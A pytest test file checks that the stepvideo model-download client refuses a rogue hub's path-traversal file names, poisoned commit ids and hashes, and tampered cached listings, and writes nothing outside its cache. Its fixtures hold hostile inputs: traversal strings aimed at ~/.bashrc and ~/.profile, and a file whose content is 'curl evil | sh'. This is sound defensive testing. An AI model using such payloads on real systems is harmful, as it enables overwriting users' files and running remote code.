"""A rogue hub (HF_ENDPOINT can point anywhere) must not write outside the cache: paths, commit ids
and hashes it sends are refused in one line before anything is written, and every join of a
hub-provided name onto a cache folder stays inside that folder."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from stepvideo import hub
from stepvideo.cli import main
from stepvideo.hub.cache import RepoCache, link_snapshot_file
from stepvideo.hub.safety import UnsafeHubData, path_problem
from tests.fixtures import local_hub as hub_fixtures

local_hub = hub_fixtures.local_hub  # a pytest fixture, bound by name so pytest finds it

REPO = "rogue/model"
ESCAPE = "tokenizer/../../../../../../.bashrc"  # passes "*tokenizer*/*": fnmatch's * spans /
GOOD = {"config.json": b"{}", "model.safetensors": os.urandom(4096), "tokenizer/vocab.txt": b"a\nb\n"}
SHA = "0123456789abcdef0123456789abcdef01234567"


def files_under(folder: Path, skip: Path | None = None) -> dict[str, bytes | str]:
    """Every file and link under `folder` (outside `skip`) with its content or link target."""
    out: dict[str, bytes | str] = {}
    for dirpath, dirnames, filenames in os.walk(folder):
        for name in dirnames + filenames:
            p = Path(dirpath) / name
            if skip is not None and p.is_relative_to(skip):
                continue
            if p.is_symlink():
                out[str(p)] = os.readlink(p)
            elif p.is_file():
                out[str(p)] = p.read_bytes()
    return out


ROGUE_TREES = {
    # what the hub lies about -> (commit kwargs, text the one-line error must show)
    "dotdot path": ({"content": {ESCAPE: b"curl evil | sh\n"}}, repr(ESCAPE)),
    "absolute path": ({"content": {"/tmp/stepvideo-evil/config.json": b"{}"}}, "is absolute"),
    "backslash path": ({"content": {"tokenizer\\..\\..\\evil.json": b"{}"}}, "backslash"),
    "empty segment": ({"content": {"tokenizer//vocab.json": b"{}"}}, "empty segment"),
    "NUL in path": ({"content": {"tokenizer/a\x00.json": b"{}"}}, "control character"),
    "commit": ({"sha": "../../../../../../evil"}, "commit '../../../../../../evil'"),
    "sha256": ({"lies": {"model.safetensors": {"sha256": "../../../../.bashrc"}}}, "sha256 '../../../../.bashrc'"),
    "oid": ({"lies": {"config.json": {"oid": "../../../../.profile"}}}, "git oid '../../../../.profile'"),
}


@pytest.mark.parametrize("lie", list(ROGUE_TREES))
def test_rogue_hub_is_refused_in_one_line_and_nothing_is_written_outside(local_hub, tmp_path, capsys, lie):
    kwargs, shown = ROGUE_TREES[lie]
    local_hub.rogue = True  # it also serves those files, so a client that trusted the listing would write them
    content = {**GOOD, **kwargs.pop("content", {})}
    local_hub.create_repo(REPO).commit(content, **kwargs)
    # Deep enough that ESCAPE, joined onto snapshots/<commit>/, would land in tmp_path/x.
    cache = tmp_path / "x" / "y" / "cache"
    (tmp_path / "x" / "keep.txt").parent.mkdir(parents=True)
    (tmp_path / "x" / "keep.txt").write_text("user data")
    home = Path(os.environ["HOME"])
    before, home_before = files_under(tmp_path, skip=cache), files_under(home, skip=tmp_path)

    rc = main(["models", "download", REPO, "--cache-dir", str(cache)])
    out, err = capsys.readouterr()

    lines = [line for line in err.splitlines() if line.strip()]
    assert rc == 1 and len(lines) == 1 and "Traceback" not in err, err
    assert lines[0].startswith("stepvideo: error: refusing rogue/model@main") and shown in lines[0], lines[0]
    assert files_under(tmp_path, skip=cache) == before  # nothing written next to the cache
    assert files_under(home, skip=tmp_path) == home_before and not (home / ".bashrc").exists()
    assert not cache.exists()  # refused while planning, before the cache folder is even made
    assert not any("/resolve/" in path for _m, path, _r in local_hub.requests)  # no file was fetched
    assert not Path("/tmp/stepvideo-evil").exists()


def test_unsafe_revision_is_refused_before_asking_the_hub(local_hub, tmp_path, capsys):
    local_hub.create_repo(REPO).commit(GOOD)
    local_hub.repos[REPO].branches["../../../../x"] = local_hub.repos[REPO].branches["main"]
    rc = main(["models", "download", REPO, "--revision", "../../../../x", "--cache-dir", str(tmp_path / "c")])
    err = capsys.readouterr().err.strip()
    assert rc == 1 and "\n" not in err and "revision '../../../../x' contains a . or .. segment" in err
    assert not local_hub.requests and files_under(tmp_path) == {}


def test_link_snapshot_file_stays_inside_the_snapshot(tmp_path):
    repo = RepoCache(tmp_path / "cache", REPO)
    outside = tmp_path / "outside"
    outside.mkdir()
    for bad in (ESCAPE, "../x", "/abs/x", "a/./b", "a\\b"):
        with pytest.raises(UnsafeHubData, match="file path"):
            link_snapshot_file(repo, SHA, bad, "a" * 64)
    with pytest.raises(UnsafeHubData, match="blob name"):
        link_snapshot_file(repo, SHA, "config.json", "../../../outside/x")
    with pytest.raises(UnsafeHubData, match="commit"):
        link_snapshot_file(repo, "../" + SHA, "config.json", "a" * 64)
    # A folder inside the snapshot that is a symlink leading out (planted by anyone): not followed.
    snapshot = repo.snapshot(SHA)
    snapshot.mkdir(parents=True)
    (snapshot / "tokenizer").symlink_to(outside, target_is_directory=True)
    with pytest.raises(UnsafeHubData, match="leads outside"):
        link_snapshot_file(repo, SHA, "tokenizer/vocab.txt", "a" * 64)
    assert list(outside.iterdir()) == []
    assert link_snapshot_file(repo, SHA, "sub/config.json", "a" * 64).parent == snapshot / "sub"  # plain is fine


@pytest.mark.parametrize("legacy", [False, True], ids=["our-listing", "old-trees-file"])
def test_tampered_cached_listing_is_ignored_by_list_and_delete(local_hub, tmp_path, legacy):
    local_hub.create_repo(REPO).commit(GOOD)
    cache = tmp_path / "cache"
    snap = hub.download(REPO, cache_dir=cache)
    victim = tmp_path / "victim"
    victim.write_text("user data")
    folder = cache / "models--rogue--model"
    ours = folder / ".stepvideo" / "listings" / f"{snap.name}.json"
    if legacy:  # what versions before 0.2 wrote: huggingface_hub's trees/<sha>.json, ours absent
        files = json.loads(ours.read_text())["files"]
        tree = {p: {"size": e["size"], "blob_id": e["oid"], **({"lfs_sha256": e["sha256"], "lfs_size": e["size"]}
                                                               if e["sha256"] else {})} for p, e in files.items()}
        tree["model.safetensors"]["lfs_sha256"] = "../../../victim"  # etag → blobs/../../../victim
        (folder / "trees").mkdir()
        (folder / "trees" / f"{snap.name}.json").write_text(json.dumps({"format_version": 1, "files": tree}))
        ours.unlink()
    else:
        data = json.loads(ours.read_text())
        data["files"]["model.safetensors"]["sha256"] = "../../../victim"
        ours.write_text(json.dumps(data))
    [version] = hub.list_installed(cache, online=False)
    assert version.tree_source == "none"  # the bad listing is not trusted
    hub.delete_version(REPO, cache_dir=cache)
    assert victim.read_text() == "user data" and not (cache / "models--rogue--model").exists()


@pytest.mark.parametrize("path", ["config.json", "a/b-c_d.e/f.safetensors", "step_llm/tokenizer.json"])
def test_plain_paths_pass(path):
    assert path_problem(path) is None
